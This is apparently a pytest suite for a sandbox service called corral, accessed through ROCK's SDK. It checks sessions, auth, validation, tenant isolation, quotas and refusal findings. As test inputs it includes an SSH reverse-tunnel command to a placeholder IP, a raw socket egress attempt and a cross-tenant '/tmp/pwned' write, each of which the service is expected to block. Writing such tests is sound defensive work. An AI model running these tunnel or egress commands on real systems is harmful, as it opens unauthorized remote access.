"""`corral serve` driven by ROCK's real Python SDK (rl-rock) over HTTP, plus auth, validation and
tenant isolation checked with plain httpx."""

from __future__ import annotations

import asyncio
import re
from collections.abc import Iterator

import httpx
import pytest

pytest.importorskip("fastapi")
uvicorn = pytest.importorskip("uvicorn")
rock_client = pytest.importorskip("rock.sdk.sandbox.client")

from rock.actions import (  # noqa: E402
    BashAction,
    CloseSessionRequest,
    Command,
    CreateBashSessionRequest,
    ReadFileRequest,
    WriteFileRequest,
)
from rock.sdk.sandbox.config import SandboxConfig as RockConfig  # noqa: E402

from corral import RuntimeConfig  # noqa: E402
from corral.server import create_app  # noqa: E402
from corral.server.app import PREFIX  # noqa: E402
from tests.conftest import serve_app  # noqa: E402

TOKEN = "tok-alpha-" + "x" * 16
OTHER = "tok-beta-" + "y" * 16


@pytest.fixture(scope="module")
def server(world, tmp_path_factory) -> Iterator[str]:
    state = tmp_path_factory.mktemp("serve-state")
    cfg = RuntimeConfig(state_dir=state, hosts=world.hosts, system_dns=False)
    app = create_app(cfg, [TOKEN, OTHER])
    with serve_app(app) as base:
        yield base
    runtime = app.state.corral.runtime
    assert not runtime.started and not runtime.sandboxes, "lifespan left sandboxes or the runtime open"


def rock(base: str, token: str = TOKEN) -> rock_client.Sandbox:
    return rock_client.Sandbox(RockConfig(base_url=base, image="python:3.11", memory="1g", cpus=1,
                                          startup_timeout=30,
                                          extra_headers={"XRL-Authorization": f"Bearer {token}"}))


def auth(token: str = TOKEN) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


async def test_rock_sdk_session_episode(server, tmp_path):
    sb = rock(server)
    await sb.start()
    sid = sb.sandbox_id
    assert sid
    st = await sb.get_status()
    assert st.is_alive and st.state == "running" and st.image == "python:3.11"
    assert (await sb.is_alive()).is_alive

    # a one-off command
    r = await sb.execute(Command(command=["echo", "hello world"]))
    assert r.exit_code == 0 and r.stdout == "hello world\n"

    # a session keeps cwd, variables and shell state across calls
    await sb.create_session(CreateBashSessionRequest(session="s1"))
    obs = await sb.arun("mkdir -p /tmp/w && cd /tmp/w && export ANSWER=42", session="s1")
    assert obs.exit_code == 0
    obs = await sb.arun("echo $ANSWER in $(pwd)", session="s1")
    assert obs.output == "42 in /tmp/w"

    # files: write, read, upload
    w = await sb.write_file(WriteFileRequest(content="line one\nline two\n", path="/tmp/w/notes.txt"))
    assert w.success
    assert (await sb.read_file(ReadFileRequest(path="/tmp/w/notes.txt"))).content == "line one\nline two\n"
    src = tmp_path / "data.bin"
    src.write_bytes(b"uploaded-bytes\x00\x01")
    up = await sb.upload_by_path(src, "/tmp/w/up/data.bin")
    assert up.success, up.message
    obs = await sb.arun("wc -c < up/data.bin && cat notes.txt | wc -l", session="s1")
    assert obs.output.split() == ["16", "2"]

    # a reverse tunnel: corral refuses it, the finding is in the response and in /findings
    obs = await sb.run_in_session(BashAction(command="ssh -N -R 2222:127.0.0.1:22 t@203.0.113.7",
                                             session="s1", check="silent"))
    assert obs.exit_code == 126 and "ssh-tunnel" in obs.failure_reason
    async with httpx.AsyncClient(base_url=server, headers=auth()) as c:
        raw = (await c.post(f"{PREFIX}/run_in_session", json={
            "sandbox_id": sid, "session": "s1", "command": "ssh -N -R 2223:127.0.0.1:22 t@203.0.113.7",
            "check": "silent"})).json()
        assert raw["status"] == "Success"
        assert [f["rule_id"] for f in raw["result"]["corral"]["findings"]] == ["ssh-tunnel"]
        found = (await c.get("/findings", params={"sandbox_id": sid})).json()["findings"]
        assert [f["rule_id"] for f in found] == ["ssh-tunnel", "ssh-tunnel"]
        assert found[0]["rock_sandbox_id"] == sid and found[0]["command"].startswith("ssh -N -R 2222")
        # ROCK's default check="raise": a failing command is a Failed envelope, the SDK raises
        with pytest.raises(Exception, match="exit code 3"):
            await sb.arun("(exit 3)", session="s1")

    # the session still works after a refusal; then close it
    assert (await sb.arun("echo $ANSWER", session="s1")).output == "42"
    await sb.close_session(CloseSessionRequest(session="s1"))

    await sb.stop()
    with pytest.raises(Exception, match="not found"):  # as ROCK: a stopped sandbox is listed only when asked
        await sb.get_status()
    async with httpx.AsyncClient(base_url=server, headers=auth()) as c:
        st = (await c.get(f"{PREFIX}/get_status", params={"sandbox_id": sid, "include_all_states": True})).json()
        assert not st["result"]["is_alive"] and st["result"]["state"] == "stopped"
    # ROCK's container-image calls: a clear refusal that says what to do instead, not a bare 404
    with pytest.raises(Exception, match=r"restart is not supported.*start_async"):
        await sb.restart()
    with pytest.raises(Exception, match=r"archive is not supported.*GET /findings"):
        await sb.archive()
    with pytest.raises(Exception, match="commit is not supported"):
        await sb.commit_async("registry.example/agent:1", "user", "secret")
    with pytest.raises(Exception, match="commit is not supported"):
        await sb.get_commit_status()
    await sb.delete()
    with pytest.raises(Exception, match=f"Sandbox {sid} not found"):  # the reason reaches the SDK's user
        await sb.get_status()
    await sb.delete()  # as ROCK: deleting it again is done already
    async with httpx.AsyncClient(base_url=server, headers=auth()) as c:  # findings outlive the sandbox
        found = (await c.get("/findings", params={"sandbox_id": sid})).json()["findings"]
        assert len(found) == 2


async def test_token_required(server):
    async with httpx.AsyncClient(base_url=server) as c:
        assert (await c.get("/health")).json() == {"status": "ok"}
        for headers in ({}, auth("wrong-token"), {"Authorization": TOKEN}, {"XRL-Authorization": "Bearer nope"}):
            r = await c.post(f"{PREFIX}/start_async", json={"image": "python:3.11"}, headers=headers)
            assert r.status_code == 401 and "token" in r.json()["error"]
            assert r.headers["www-authenticate"] == "Bearer"
        assert (await c.get("/findings")).status_code == 401
        assert (await c.get("/no/such/route")).status_code == 401  # nothing leaks before auth
    async with httpx.AsyncClient(base_url=server, headers=auth(OTHER)) as c:  # no sandbox was made
        assert (await c.get("/findings")).json() == {"findings": []}


def http_status(r: httpx.Response) -> int:
    """What corral meant: ROCK's routes answer a refused request with HTTP 200 and a Failed envelope
    (ROCK's SDK raises on any other status without reading the body), the status in corral.http_status."""
    body = r.json()
    if r.status_code == 200 and body.get("status") == "Failed":
        assert body["result"]["code"] in (4000, 5000) and body["result"]["failure_reason"] == body["error"]
    return body.get("corral", {}).get("http_status", r.status_code)


async def test_malformed_requests(server):
    async with httpx.AsyncClient(base_url=server, headers=auth()) as c:
        r = await c.post(f"{PREFIX}/execute", content=b"{not json", headers={"content-type": "application/json"})
        assert http_status(r) == 422 and r.json()["status"] == "Failed" and "JSON" in r.json()["error"]
        assert r.status_code == 200  # as ROCK, so its SDK shows the reason
        r = await c.post(f"{PREFIX}/execute", json={"sandbox_id": "x"})
        assert http_status(r) == 422 and "command: Field required" in r.json()["error"]
        r = await c.post(f"{PREFIX}/start_async", json={"image": "python:3.11", "memory": "lots"})
        assert http_status(r) == 422 and "memory 'lots'" in r.json()["error"]
        r = await c.post(f"{PREFIX}/start_async", json={"cpus": -1})
        assert http_status(r) == 422 and "cpus" in r.json()["error"]
        r = await c.post(f"{PREFIX}/start_async", json={"cpus": 20})  # ROCK's maximum is 16
        assert http_status(r) == 400 and "Requested CPUs 20 exceed the maximum allowed 16" in r.json()["error"]
        r = await c.post(f"{PREFIX}/start_async", json={"memory": "128g"})
        assert http_status(r) == 400 and "Requested memory 128g exceed" in r.json()["error"]
        r = await c.post(f"{PREFIX}/start_async", json={"num_gpus": 1})
        assert http_status(r) == 422 and "GPU" in r.json()["error"]
        r = await c.get(f"{PREFIX}/get_status")
        assert http_status(r) == 422 and "sandbox_id" in r.json()["error"]
        r = await c.get(f"{PREFIX}/get_status", params={"sandbox_id": "sb-nonexistent"})
        assert http_status(r) == 404
        for route, done in (("stop", "stopped"), ("delete", "deleted")):  # as ROCK: idempotent
            r = await c.post(f"{PREFIX}/{route}", json={"sandbox_id": "sb-nonexistent"})
            assert r.json()["status"] == "Success" and r.json()["result"] == f"sb-nonexistent {done}"
    # the SDK's own error for a request ROCK would refuse: BadRequestRockError with the reason
    from rock.sdk.common.exceptions import BadRequestRockError

    big = rock_client.Sandbox(RockConfig(base_url=server, image="python:3.11", memory="1g", cpus=20,
                                         extra_headers={"XRL-Authorization": f"Bearer {TOKEN}"}))
    with pytest.raises(BadRequestRockError, match="exceed the maximum allowed"):
        await big.start()


async def test_tenant_isolation(server):
    async with (httpx.AsyncClient(base_url=server, headers=auth(TOKEN)) as a,
                httpx.AsyncClient(base_url=server, headers=auth(OTHER)) as b):
        r = (await a.post(f"{PREFIX}/start_async", json={"image": "python:3.11", "sandbox_id": "mine-1"})).json()
        assert r["status"] == "Success"
        sid = r["result"]["sandbox_id"]
        assert sid == "mine-1"
        try:
            for method, path, kw in (
                ("GET", "get_status", {"params": {"sandbox_id": sid}}),
                ("GET", "is_alive", {"params": {"sandbox_id": sid}}),
                ("POST", "execute", {"json": {"sandbox_id": sid, "command": "touch /tmp/pwned"}}),
                ("POST", "create_session", {"json": {"sandbox_id": sid, "session": "x"}}),
                ("POST", "read_file", {"json": {"sandbox_id": sid, "path": "/etc/hostname"}}),
                ("POST", "write_file", {"json": {"sandbox_id": sid, "path": "/tmp/pwned", "content": "x"}}),
                ("POST", "stop", {"json": {"sandbox_id": sid}}),
                ("POST", "delete", {"json": {"sandbox_id": sid}}),
            ):
                resp = await b.request(method, f"{PREFIX}/{path}", **kw)
                if path in ("stop", "delete"):  # idempotent, as ROCK: done already, and nothing touched
                    assert resp.json()["status"] == "Success" and "corral" not in resp.json(), resp.text
                else:
                    assert http_status(resp) == 404, (path, resp.text)
            assert (await b.get("/findings", params={"sandbox_id": sid})).status_code == 404
            # the same client id is free for the other tenant, and is a different sandbox
            r2 = (await b.post(f"{PREFIX}/start_async", json={"sandbox_id": "mine-1"})).json()
            assert r2["result"]["corral"]["sandbox_id"] != r["result"]["corral"]["sandbox_id"]
            await b.post(f"{PREFIX}/delete", json={"sandbox_id": "mine-1"})
            # the owner's sandbox was untouched
            out = (await a.post(f"{PREFIX}/execute", json={"sandbox_id": sid, "command": "ls /tmp/pwned"})).json()
            assert out["result"]["exit_code"] != 0
            assert (await a.get(f"{PREFIX}/is_alive", params={"sandbox_id": sid})).json()["result"]["is_alive"]
        finally:
            await a.post(f"{PREFIX}/delete", json={"sandbox_id": sid})
        # left running on purpose: the server's shutdown must close it (checked by the fixture)
        left = (await a.post(f"{PREFIX}/start_async", json={"sandbox_id": "left-open"})).json()
        assert left["status"] == "Success"


async def test_openenv_is_mounted_in_the_service(server):
    """The same service speaks OpenEnv at /openenv, on its runtime and behind its token gate."""
    from corral.envs.openenv_env import CorralAction, CorralEnvClient

    async with CorralEnvClient(base_url=f"{server}/openenv", token=TOKEN) as env:
        r = await env.reset(task_id="fix-median")
        assert not r.done and r.observation.task_id == "fix-median"
        r = await env.step(CorralAction(tool="exec", command="echo from-openenv"))
        assert r.observation.stdout == "from-openenv\n" and r.observation.exit_code == 0
    with pytest.raises(Exception, match="403"):  # no token: the WebSocket handshake is refused
        async with CorralEnvClient(base_url=f"{server}/openenv") as env:
            await env.reset(task_id="fix-median")
    async with httpx.AsyncClient(base_url=server) as c:
        assert (await c.get("/openenv/schema")).status_code == 401
        assert (await c.get("/openenv/schema", headers=auth())).status_code == 200


def test_quota_holds_under_concurrency_and_counts_openenv(world, tmp_path):
    """Concurrent start_async calls cannot overshoot max_sandboxes_per_tenant, and an OpenEnv session
    counts against the same quota (another tenant's is its own)."""
    import asyncio

    from corral.envs.openenv_env import CorralEnvClient
    from corral.server.config import ServeConfig

    cfg = ServeConfig(runtime=RuntimeConfig(state_dir=tmp_path, hosts=world.hosts, system_dns=False),
                      max_sandboxes_per_tenant=2)
    app = create_app(cfg, [TOKEN, OTHER])

    async def scenario(base: str) -> None:
        async with httpx.AsyncClient(base_url=base, headers=auth(), timeout=60) as c:
            starts = [c.post(f"{PREFIX}/start_async", json={"image": "x"}) for _ in range(5)]
            codes = sorted(http_status(r) for r in await asyncio.gather(*starts))
            assert codes == [200, 200, 429, 429, 429]
            # the same id asked for twice at once: one wins, the other is told it is taken
            same = [c.post(f"{PREFIX}/start_async", json={"image": "x", "sandbox_id": "dup"}) for _ in range(2)]
            assert all(http_status(r) in (409, 429) for r in await asyncio.gather(*same))
            with pytest.raises(Exception, match="403"):  # at the quota: no OpenEnv session either
                async with CorralEnvClient(base_url=f"{base}/openenv", token=TOKEN) as env:
                    await env.reset(task_id="fix-median")
            boxes = app.state.corral.boxes[app.state.corral.tokens[TOKEN]]
            first = next(iter(boxes))
            assert (await c.post(f"{PREFIX}/delete", json={"sandbox_id": first})).status_code == 200
            async with CorralEnvClient(base_url=f"{base}/openenv", token=TOKEN) as env:
                await env.reset(task_id="fix-median")  # a slot is free again: the session takes it
                r = await c.post(f"{PREFIX}/start_async", json={"image": "x"})
                assert http_status(r) == 429 and "OpenEnv" in r.json()["message"]
            async with CorralEnvClient(base_url=f"{base}/openenv", token=OTHER) as env:
                await env.reset(task_id="fix-median")  # the other tenant has a quota of its own

    with serve_app(app) as base:
        asyncio.run(scenario(base))


def test_idle_sandboxes_are_stopped(world, tmp_path):
    """A client that goes away leaves nothing running: a sandbox without requests for its
    auto_clear_seconds is stopped; one whose command is still running is not idle."""
    import asyncio

    from corral.server.config import ServeConfig

    cfg = ServeConfig(runtime=RuntimeConfig(state_dir=tmp_path, hosts=world.hosts, system_dns=False))
    app = create_app(cfg, [TOKEN])

    async def scenario(base: str) -> None:
        async with httpx.AsyncClient(base_url=f"{base}{PREFIX}", headers=auth(), timeout=60) as c:
            for sid in ("idle", "busy"):
                r = await c.post("/start_async", json={"image": "x", "sandbox_id": sid, "auto_clear_seconds": 2})
                assert r.status_code == 200, r.text
            # a 6 s command outlives the 2 s idle limit without being cut off
            r = await c.post("/execute", json={"sandbox_id": "busy", "command": "sleep 6; echo done"})
            assert r.json()["result"]["stdout"] == "done\n"
            status = (await c.get("/get_status", params={"sandbox_id": "idle", "include_all_states": True})).json()
            assert status["result"]["state"] == "stopped" and not status["result"]["is_alive"], status
            r = await c.post("/execute", json={"sandbox_id": "idle", "command": "true"})
            assert http_status(r) == 409 and "idle for 2 s" in r.json()["message"]

    with serve_app(app) as base:
        asyncio.run(scenario(base))


ROLL_PID = re.compile(r"\[\d+\]\s+(\d+)$")  # ROLL's SandboxManagerV2._extract_pid, on the output's last line


async def test_roll_terminal_bench_sequence_through_the_sdk(server, tmp_path):
    """ROLL's terminal-bench calls (roll/pipeline/agentic/env/rock/sandbox_manager_v2.py), through the real
    SDK: a session with startup_source=["/root/.bashrc"] (missing here), the tests uploaded, run as a
    background job whose pid ROLL reads from bash's "[1] <pid>" line, polled with kill -0, then read."""
    sb = rock(server)
    await sb.start()
    try:
        created = await sb.create_session(CreateBashSessionRequest(
            session="tb", startup_source=["/root/.bashrc"], env_enable=True, env={"HOME": "/root"}))
        assert "bashrc" in created.output  # bash's complaint, as ROCK reports it; the session works
        # ROLL retries create_session: the same name again is not an error, and keeps the session
        await sb.create_session(CreateBashSessionRequest(session="tb", startup_source=["/root/.bashrc"]))
        src = tmp_path / "test_task.py"
        # the task's tests (the host root of this suite has no pytest: a runner that prints pytest's tally)
        src.write_text("def test_answer():\n    assert 6 * 7 == 42\n\n\ntest_answer()\nprint('1 passed')\n")
        assert (await sb.upload_by_path(src, "/tmp/tests/test_task.py")).success
        obs = await sb.run_in_session(BashAction(
            session="tb", check="silent",
            command="nohup python3 /tmp/tests/test_task.py < /dev/null > /tmp/tb.out 2>&1 &"))
        assert obs.exit_code == 0, obs
        m = ROLL_PID.match(obs.output.splitlines()[-1].strip())
        assert m, f"no '[1] <pid>' line: {obs.output!r}"
        for _ in range(200):  # ROLL's is_process_running: kill -0 until it fails
            alive = await sb.run_in_session(BashAction(session="tb", command=f"kill -0 {m.group(1)}",
                                                       check="silent"))
            if alive.exit_code != 0:
                break
            await asyncio.sleep(0.1)
        else:
            pytest.fail("the background job never ended")
        out = await sb.run_in_session(BashAction(session="tb", command="head -c 4000 /tmp/tb.out", check="silent"))
        reward = 1.0 if re.search(r"\b1 passed\b", out.output) else 0.0
        assert reward == 1.0, out.output
        # one terminal stream: stderr in order with stdout, whitespace around it cut, as ROCK's pty
        obs = await sb.run_in_session(BashAction(session="tb", command="echo out; echo err >&2; echo out2",
                                                 check="silent"))
        assert obs.output == "out\nerr\nout2"
    finally:
        await sb.stop()


async def test_sdk_temporary_sessions_are_reaped_and_findings_reach_failure_reason(server):
    """arun(session=None) opens a session per call that neither ROCK's SDK nor ROCK closes: a long loop
    of them must not exhaust the sandbox's processes. A denied connection is named in failure_reason."""
    sb = rock(server)
    await sb.start()
    try:
        for i in range(40):
            obs = await sb.arun(f"echo call-{i}")
            assert obs.output == f"call-{i}"
        async with httpx.AsyncClient(base_url=server, headers=auth()) as c:
            st = (await c.get(f"{PREFIX}/get_status", params={"sandbox_id": sb.sandbox_id})).json()
        temp = [s for s in st["result"]["corral"]["sessions"] if s.startswith("bash-")]
        assert len(temp) <= 16, len(temp)
        # a connection the policy denies: the client's connect may succeed (corral's gateway answers it),
        # but the finding is in failure_reason, the field ROLL and the SDK keep
        await sb.create_session(CreateBashSessionRequest(session="net"))
        obs = await sb.run_in_session(BashAction(session="net", check="silent", command=(
            "python3 -c \"import socket; s = socket.create_connection(('203.0.113.99', 80), timeout=5);"
            " s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print(s.recv(10))\"")))
        assert "egress-denied" in obs.failure_reason, (obs.output, obs.failure_reason)
    finally:
        await sb.stop()
